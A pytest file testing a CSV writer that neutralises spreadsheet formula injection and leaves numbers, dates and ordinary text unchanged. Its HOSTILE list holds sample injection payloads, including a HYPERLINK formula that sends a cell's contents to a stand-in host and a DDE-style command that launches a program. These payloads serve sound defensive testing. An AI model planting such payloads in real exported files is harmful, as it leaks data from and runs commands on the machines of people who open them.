"""The one CSV writer: no cell starts a spreadsheet formula, numbers stay numbers.

Plain Python, no database (OWASP CSV injection; the rule is in core/csvsafe.py).
"""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest

from core import csvsafe

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(A1:A9)",
    "+1-555-0100",
    "-2+3+cmd|' /C calc'!A0",
    "\tTabbed",
    "\rCarriage",
    "\nLine feed",
    "  =1+1",  # spaces first: some spreadsheets skip them
]


def _written(row) -> list[str]:
    out = io.StringIO()
    csvsafe.writer(out).writerow(row)
    return next(csv.reader(io.StringIO(out.getvalue())))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_quote(text):
    assert _written([text]) == ["'" + text]


@pytest.mark.parametrize("value, expected", [
    (Decimal("-1.5"), "-1.5"),
    (-1.5, "-1.5"),
    (-30, "-30"),
    ("-1.5", "-1.5"),  # a number the registry formatted as text
    ("+2", "+2"),
    ("-1e-3", "-1e-3"),
    (dt.date(2025, 1, 15), "2025-01-15"),
])
def test_numbers_stay_numbers(value, expected):
    assert _written([value]) == [expected]


@pytest.mark.parametrize("text", ["Archer", "A-1", "FR-000001", "", "<0.5", "O'Neil", "a=b"])
def test_ordinary_text_is_written_unchanged(text):
    assert _written([text]) == [text]


def test_writerows_neutralises_every_row():
    out = io.StringIO()
    csvsafe.writer(out).writerows([["=1", 1], ["ok", "@x"]])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=1", "1"], ["ok", "'@x"]]
